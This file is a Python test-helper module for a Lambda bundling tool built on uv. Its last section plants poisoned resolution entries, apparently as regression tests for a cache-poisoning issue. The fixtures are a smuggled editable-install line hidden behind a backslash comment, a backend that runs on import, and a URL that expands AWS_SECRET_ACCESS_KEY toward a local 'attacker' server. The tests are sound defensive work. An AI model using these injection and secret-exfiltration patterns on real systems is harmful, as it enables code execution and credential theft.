"""Helpers the test files share: a function folder, a build request, a build that must fail with a clear
error, the command line in a subprocess. Fixtures are in ``conftest.py``; CDK helpers in ``cdkhelpers.py``."""

from __future__ import annotations

import json
import os
import resource
import subprocess
import sys
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest

from cdk_native_python.core.errors import (
    BundlingError,
    InputError,
)
from cdk_native_python.core.spec import IndexOptions
from cdk_native_python.core.target import Target
from cdk_native_python.pipeline import uv
from cdk_native_python.pipeline.engine import BuildRequest, BuildResult, build
from cdk_native_python.pipeline.install import InstallOptions
from cdk_native_python.pipeline.slim import SlimOptions
from cdk_native_python.pipeline.strip import StripOptions
from cdk_native_python.store.local import LocalStore
from tests.s3server import closed_port as closed_port  # re-exported: the tests import it from here
from tests.wheelfactory import WheelIndex, build_wheel

ROOT = Path(__file__).resolve().parents[1]
PYTHON = ROOT / ".venv" / "bin" / "python"
ARM312 = Target.from_runtime("python3.12", "arm64")
X86312 = Target.from_runtime("python3.12", "x86_64")
ARM313 = Target.from_runtime("python3.13", "arm64")
ML = {"aarch64": "manylinux_2_17_aarch64", "x86_64": "manylinux_2_17_x86_64"}
#: a secret the URL-credential tests look for everywhere it must not be
PASSWORD = "Pw-7f3a9c-do-not-leak"
HANDLER = "def handler(event, context):\n    return 'ok'\n"


# -- a function folder and its request ------------------------------------------------------------------------

def write_function(root: Path, requirements: str | None = None,
                   files: Mapping[str, str | bytes] | None = None, *, name: str = "fn") -> Path:
    """A function folder ``root/<name>``: a handler, ``requirements.txt`` unless ``None``, and ``files``
    (an ``index.py`` among them replaces the handler)."""
    entry = root / name
    entry.mkdir(parents=True, exist_ok=True)
    (entry / "index.py").write_text(HANDLER)
    if requirements is not None:
        (entry / "requirements.txt").write_text(requirements)
    write_files(entry, files or {})
    return entry


def write_files(root: Path, files: Mapping[str, str | bytes]) -> None:
    """Each of ``files`` (relative path -> text or bytes) under ``root``, folders created."""
    for rel, content in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content)


def build_request(entry: Path, index: Any = None, target: Target = ARM312, **kw: Any) -> BuildRequest:
    indexes = kw.pop("indexes", None) or (IndexOptions(index_url=index.url) if index is not None else IndexOptions())
    return BuildRequest(entry=entry, target=target, indexes=indexes, **kw)


def from_wheels(entry: Path, wheels: Path, target: Target = ARM312, *, slim: SlimOptions | None = None,
                verify_exclude: tuple[str, ...] = (), layer_bytes: int = 0) -> BuildRequest:
    """A request that installs from the wheels in ``wheels`` only."""
    return BuildRequest(entry=entry, target=target, indexes=IndexOptions(no_index=True, find_links=(str(wheels),)),
                        install=InstallOptions(slim=slim or SlimOptions(), verify_exclude=verify_exclude),
                        layer_bytes=layer_bytes)


def native_wheel(wheels: Path, name: str, machine: str, module: str, binary: bytes, tags: str = "") -> None:
    build_wheel(wheels, name, "1.0", tags or f"cp38-abi3-{ML[machine]}",
                files={f"{name}/__init__.py": b"", f"{name}/{module}": binary})


def slim_wheel(wheels: Path) -> None:
    build_wheel(wheels, "slimpkg", "1.0", files={
        "slimpkg/__init__.py": b"from importlib.metadata import version\n__version__ = version('slimpkg')\n",
        "slimpkg/__pycache__/__init__.cpython-311.pyc": b"stale bytecode of another Python",
        "slimpkg/tests/__init__.py": b"",
        "slimpkg/tests/test_big.py": b"x = 1\n" * 10000,
        "slimpkg/testing/__init__.py": b"HELPERS = 1\n",  # public API: stays
        "slimpkg/_speed.pyx": b"cdef int x = 1\n",
        "slimpkg/data/schema.json": b"{}",
    })


def index_request(entry: Path, target: Target, index: Any, *, strip: StripOptions | None = None,
                  **kw: Any) -> BuildRequest:
    """A request for ``target`` that resolves from ``index`` (a :class:`WheelIndex`)."""
    return build_request(entry, index, target, install=InstallOptions(strip=strip or StripOptions()), **kw)


def engine_build(tmp_path: Path, entry: Path, target: Target = ARM312, *, index: WheelIndex | None = None,
                 cache: str = "cache", out: str = "out", **kw: Any) -> BuildResult:
    """``engine.build`` of ``entry`` into ``tmp_path/out`` with the store ``tmp_path/cache``."""
    return build(build_request(entry, index, target, **kw), tmp_path / out, LocalStore(tmp_path / cache))


# -- failures: clear errors ------------------------------------------------------------------------------------

def fails(kind: type[BundlingError], action: Callable[[], object]) -> BundlingError:
    with pytest.raises(kind) as info:
        action()
    return info.value


def says(err: BundlingError, *culprits: str, hint: str) -> str:
    """The message names every culprit and the hint says what to do (``hint``: words it must hold, never empty:
    an empty one would accept any hint, or none); returns the full text."""
    assert hint.strip(), "says() needs the words the hint must hold"
    text = str(err)
    for culprit in culprits:
        assert culprit in text, f"{culprit!r} not named in:\n{text}"
    assert err.hint and hint.lower() in err.hint.lower(), f"hint {err.hint!r} does not say {hint!r}"
    assert "Traceback" not in text and "\n    at " not in text
    return text

def build_later(request: BuildRequest, tmp_path: Path, cache: LocalStore | None = None) -> Callable[[], object]:
    """The build of ``request``, to be called by :func:`fails`."""
    return lambda: build(request, tmp_path / "out", cache or LocalStore(tmp_path / "cache"))


def refused(tmp_path: Path, entry: Path, *culprits: str, hint: str, code: str | None = None,
            dependency_file: Path | None = None, cli_memory_limit: int | None = None) -> InputError:
    """The engine raises an InputError naming every culprit; the CLI exits 2 with the same, and no traceback."""
    with pytest.raises(InputError) as info:
        engine_build(tmp_path, entry, dependency_file=dependency_file)
    err = info.value
    says(err, *culprits, hint=hint)
    if code is not None:
        assert err.code == code, err.code
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())
    extra = ["-r", str(dependency_file)] if dependency_file else []
    proc = cli_build(tmp_path, entry, *extra, memory_limit=cli_memory_limit, timeout=60)
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr and "hint:" in proc.stderr, proc.stderr
    for culprit in culprits:
        assert culprit in proc.stderr, proc.stderr
    assert not (tmp_path / "cli-out").exists()
    return err


# -- the command line and the network --------------------------------------------------------------------------

def cli(tmp_path: Path, *args: str, env: dict[str, str] | None = None, memory_limit: int | None = None,
        timeout: float = 300) -> subprocess.CompletedProcess[str]:
    """``cdk-native-python`` in a subprocess, with its own cache, optionally with an address-space limit."""
    environ = {**os.environ, "CDK_NATIVE_PYTHON_CACHE_DIR": str(tmp_path / "cli-cache"), **(env or {})}

    def limit() -> None:
        if memory_limit is not None:
            resource.setrlimit(resource.RLIMIT_AS, (memory_limit, memory_limit))

    return subprocess.run([sys.executable, "-m", "cdk_native_python.cli", *args], cwd=tmp_path, env=environ,
                          capture_output=True, text=True, timeout=timeout, check=False, preexec_fn=limit)


def cli_build(tmp_path: Path, entry: Path, *extra: str, target: Target = ARM312, **kw: Any) -> \
        subprocess.CompletedProcess[str]:
    return cli(tmp_path, "build", "--runtime", target.runtime, "--arch", target.lambda_architecture,
               "--source", str(entry), "--output", str(tmp_path / "cli-out"), "--report",
               str(tmp_path / "cli-report.json"), *extra, **kw)


def elf_machine(data: bytes) -> int:
    """``e_machine`` of an ELF file's first bytes (62 x86_64, 183 aarch64)."""
    return int.from_bytes(data[18:20], "little")


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if ".tmp-" in p.name) if folder.is_dir() else []


# -- uv as the engine runs it ---------------------------------------------------------------------------------

def uv_compile(tmp_path: Path, requirements: str, *index_args: str) -> uv.Result:
    """``uv pip compile`` for python3.12 arm64 wheels only: what uv really says (its message is what we parse)."""
    (tmp_path / "requirements.in").write_text(requirements)
    return uv.run(["pip", "compile", str(tmp_path / "requirements.in"), "--python-platform",
                   ARM312.uv_python_platform, "--python-version", ARM312.python_version, "--only-binary", ":all:",
                   "--quiet", *index_args], tmp_path / "uv-cache")


def uv_install(tmp_path: Path, requirements: str, *index_args: str) -> uv.Result:
    """``uv pip install --no-deps`` of pinned ``requirements`` for python3.12 arm64."""
    (tmp_path / "pins.txt").write_text(requirements)
    return uv.run(["pip", "install", "--target", str(tmp_path / "t"), "--no-deps", "--only-binary", ":all:",
                   "--python-platform", ARM312.uv_python_platform, "--python-version", ARM312.python_version,
                   "-r", str(tmp_path / "pins.txt"), *index_args], tmp_path / "uv-cache")



# -- a bucket writer's (or a local intruder's) planted resolution entries (issue 22) ---------------------------

def planted_backend(folder: Path, marker: Path) -> None:
    """A project in ``folder`` whose build backend creates ``marker`` as soon as anything imports it: if it
    exists, some tool ran code that came from a store."""
    write_files(folder, {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
                          '[project]\nname = "planted"\nversion = "1.0"\n',
        "backend.py": f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran')\n",
    })


def plant_pins(entry: Path, **fields: str) -> None:
    """Rewrite purepkg's pin in the resolution entry ``entry`` (a folder holding ``resolution.json``) with
    ``fields`` (an attacker's text in a version, a wheel, a URL), and drop its hashes."""
    path = entry / "resolution.json"
    data = json.loads(path.read_text())
    data["pins"] = [{"name": "purepkg", "version": "", "wheel": "", "url": "", "hashes": [], **fields}
                    if pin["name"] == "purepkg" else pin for pin in data["pins"]]
    os.chmod(path, 0o644)
    path.write_text(json.dumps(data))


def attack_fields(kind: str, entry: Path, marker: Path, port: int, unpacked: Path | None = None) -> dict[str, str]:
    """One of the two HIGH attacks of issue 22 on the resolution entry ``entry`` (the fields for
    :func:`plant_pins`). ``editable``: a comment line ending in a backslash that hides an editable install of a
    folder planted in the entry (``planted_backend`` in ``entry/src``; ``unpacked``: where the reader's store
    would hold the entry, ``entry`` itself for a local plant). ``secret-url``: a direct URL that uv would expand
    with the reader's secrets, on the attacker's server at ``port``."""
    if kind == "editable":
        planted_backend(entry / "src", marker)
        return {"version": f"1.0 # planted \\\n-e {unpacked or entry}/src\n#"}
    return {"url": f"http://127.0.0.1:{port}/x/${{AWS_SECRET_ACCESS_KEY}}/${{HOME}}/purepkg-1.0-py3-none-any.whl"}
